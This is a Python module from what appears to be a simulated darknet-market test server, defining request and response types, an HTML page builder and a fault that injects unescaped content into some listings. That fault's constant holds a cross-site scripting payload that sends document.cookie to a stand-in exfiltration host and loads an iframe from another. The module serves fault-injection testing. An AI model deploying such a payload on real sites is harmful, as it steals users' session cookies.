"""What every market family shares: the request/response values and the page skeleton.

A family is a function ``handle(market, request) -> Response``: it owns its URL scheme and
markup; the server only speaks HTTP. Later families (login, CAPTCHA, queue pages, tokens) read the
request's headers and query the same way.
"""
from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from html import escape

from ..model import Market

__all__ = ["Request", "Response", "esc", "page", "not_found", "HTML_TYPE", "INJECTION", "is_injected",
           "listing_text"]

HTML_TYPE = "text/html; charset=utf-8"


@dataclass(frozen=True)
class Request:
    method: str
    path: str  # percent-decoded path, no query
    query: Mapping[str, list[str]] = field(default_factory=dict)
    headers: Mapping[str, str] = field(default_factory=dict)
    form: Mapping[str, list[str]] = field(default_factory=dict)  # POSTed form fields
    cookies: Mapping[str, str] = field(default_factory=dict)
    client: str = ""  # the peer's address
    target: str = ""  # the request target as sent (path and query, not decoded)

    def field(self, name: str, default: str = "") -> str:
        values = self.form.get(name)
        return values[0] if values else default

    def param(self, name: str, default: str | None = None) -> str | None:
        values = self.query.get(name)
        return values[0] if values else default


@dataclass(frozen=True)
class Response:
    status: int
    body: bytes
    content_type: str = HTML_TYPE
    headers: tuple[tuple[str, str], ...] = ()


def esc(text: object) -> str:
    """Escape market text for HTML text and attribute values (quotes included)."""
    return escape(str(text), quote=True)


def page(market: Market, title: str, body: str, status: int = 200) -> Response:
    """A whole HTML page: header with market name and exchange rates, then ``body``."""
    html = (
        "<!DOCTYPE html>\n"
        '<html lang="en">\n<head>\n<meta charset="utf-8">\n'
        f"<title>{esc(title)} | {esc(market.name)}</title>\n</head>\n<body>\n"
        '<header id="market-header">\n'
        f'<a class="market-name" href="/">{esc(market.name)}</a>\n'
        '<div id="rates">'
        f'<span class="rate-btc">1 BTC = ${market.btc_usd:,.2f}</span> '
        f'<span class="rate-xmr">1 XMR = ${market.xmr_usd:,.2f}</span>'
        "</div>\n</header>\n"
        f'<main id="content">\n{body}\n</main>\n'
        "</body>\n</html>\n"
    )
    return Response(status, html.encode("utf-8"))


def not_found(market: Market) -> Response:
    return page(market, "Not found", '<h1 class="error">404 Not Found</h1>', status=404)


#: What the injection fault puts, unescaped, into a listing's text: script, a fake title, a fake
#: vendor link and an iframe, as a market that fails to escape its vendors' text would serve.
INJECTION = ('<script>document.title="pwned";fetch("http://exfil.invalid/"+document.cookie)'
             '</script><h1 class="title">FAKE TITLE</h1><a class="vendor" href="/vendor/admin">'
             'admin</a><iframe src="http://evil.invalid/"></iframe>')


def is_injected(market: Market, index: int) -> bool:
    """Whether the injection fault hits listing ``index`` (stable per listing and rate)."""
    rate = market.faults.injection_rate
    if rate <= 0:
        return False
    import random

    return random.Random(f"{market.seed}:{market.name}:{index}:inject").random() < rate


def listing_text(market: Market, item, text: str) -> str:
    """A paragraph of listing text as HTML: escaped, plus the raw injection after the first
    paragraph of listings the injection fault hits."""
    out = esc(text)
    if item.paragraphs and text is item.paragraphs[0] and is_injected(market, item.index):
        out += INJECTION
    return out
